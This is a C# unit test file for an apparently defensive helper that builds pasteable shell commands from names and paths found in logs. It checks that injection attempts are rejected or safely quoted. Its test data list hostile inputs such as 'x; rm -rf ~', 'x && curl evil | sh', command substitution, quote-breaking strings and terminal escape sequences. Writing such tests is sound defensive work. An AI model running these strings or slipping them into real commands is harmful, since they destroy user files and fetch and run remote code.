using GoldenPath.Diagnosis.Explanations;

namespace GoldenPath.Tests.Diagnosis.Explanations;

/// <summary>What a log names reaches a command that people paste only as a plain word or a quoted path.</summary>
[Trait(Speed.Name, Speed.Quick)]
public sealed class PastedSpecs
{
    public static TheoryData<string> Hostile =>
        [
            "x; rm -rf ~",
            "x && curl evil | sh",
            "$(touch pwned)",
            "`touch pwned`",
            "x' ; touch pwned ; '",
            "x\" ; touch pwned ; \"",
            "x\ntouch pwned",
            "x\n",
            "-rf",
            "--index-url=http://evil",
            "git+https://evil/x",
            "https://evil/x.tgz",
            "../../x",
            "./x",
            "x y",
            "x\u001b]0;title\u0007",
            "",
        ];

    [TableSpec]
    [MemberData(nameof(Hostile))]
    public Task A_name_that_is_none_makes_no_command(string name)
    {
        Assert.Null(Pasted.WithName(name, plain => plain));
        Assert.Null(Pasted.WithWord(name, plain => plain));
        Assert.Null(Pasted.Export(["PATH", name]));
        return Task.CompletedTask;
    }

    [TableSpec]
    [InlineData("psycopg2")]
    [InlineData("@nestjs/core")]
    [InlineData("Microsoft.Data.SqlClient")]
    [InlineData("my-database_2")]
    public Task A_name_is_taken_as_it_is(string name)
    {
        Assert.Equal($"install {name}", Pasted.WithName(name, plain => $"install {plain}"));
        return Task.CompletedTask;
    }

    [TableSpec]
    [InlineData("registry.internal:5000/team/image:1.2")]
    [InlineData("Foo::Bar")]
    public Task A_word_may_have_parts(string word)
    {
        Assert.Equal($"pull {word}", Pasted.WithWord(word, plain => $"pull {plain}"));
        return Task.CompletedTask;
    }

    [TableSpec]
    [InlineData("./run it.sh", "'./run it.sh'")]
    [InlineData("it's/here", "'it'\\''s/here'")]
    [InlineData("~/.pgpass", "~/'.pgpass'")]
    [InlineData("$(touch pwned)", "'$(touch pwned)'")]
    public Task A_path_is_one_argument_whatever_it_holds(string path, string quoted)
    {
        Assert.Equal(quoted, Pasted.WithPath(path, one => one));
        return Task.CompletedTask;
    }

    [TableSpec]
    [InlineData("a\nb")]
    [InlineData("a\u001b[2J")]
    [InlineData("")]
    public Task A_path_that_no_terminal_should_be_given_makes_no_command(string path)
    {
        Assert.Null(Pasted.WithPath(path, one => one));
        return Task.CompletedTask;
    }

    [TableSpec]
    [InlineData("/", true)]
    [InlineData("/etc/shadow", true)]
    [InlineData("/data", true)]
    [InlineData("/srv/app/../../etc", true)]
    [InlineData("/srv/app/data", false)]
    [InlineData("./cache", false)]
    public Task What_is_the_systems_is_not_given_away(string path, bool isOfSystem)
    {
        Assert.Equal(isOfSystem, Pasted.IsOfSystem(path));
        return Task.CompletedTask;
    }
}
